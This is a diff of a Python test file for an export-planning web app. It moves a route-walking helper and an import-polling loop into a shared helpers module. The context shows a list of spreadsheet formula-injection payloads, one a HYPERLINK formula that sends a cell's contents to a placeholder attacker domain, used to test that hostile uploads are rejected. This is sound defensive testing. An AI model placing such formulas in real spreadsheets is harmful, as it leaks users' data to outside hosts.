@@ -12,7 +12,6 @@ import datetime as dt
 import io
 import re
 import shutil
-import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -30,6 +29,7 @@ from exportplan.services.plan_of_record import choose_program
 from exportplan.views.tables import csv_bytes, table, xlsx_bytes
 from exportplan.web.app import create_app
 from exportplan.workspace import Workspace, open_workspace
+from helpers import wait_for_imports, walk
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -98,15 +98,6 @@ def client(hostile: Workspace) -> Iterator[TestClient]:
         yield c
 
 
-def walk(routes: list[Any]) -> Iterator[Any]:
-    for r in routes:
-        inner = getattr(r, "original_router", None)
-        if inner is not None:
-            yield from walk(inner.routes)
-        else:
-            yield r
-
-
 def csv_cells(data: bytes) -> list[str]:
     text = data.decode("utf-8-sig")
     return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
@@ -151,12 +142,7 @@ def upload_rejected_formulas(c: TestClient) -> int:
         follow_redirects=False,
     )
     assert r.status_code == 303, r.text[:500]  # queued for the server's writer
-    end = time.monotonic() + 60
-    while True:
-        jobs = c.get("/data/imports.json?lang=en").json()["imports"]
-        if all(j["final"] for j in jobs) or time.monotonic() > end:
-            break
-        time.sleep(0.05)
+    jobs = wait_for_imports(c)
     m = re.search(r"/data/rejects/(\d+)\.csv", jobs[0]["rejects_url"])
     assert m is not None, ("the hostile rows were not rejected", jobs[0])
     return int(m.group(1))
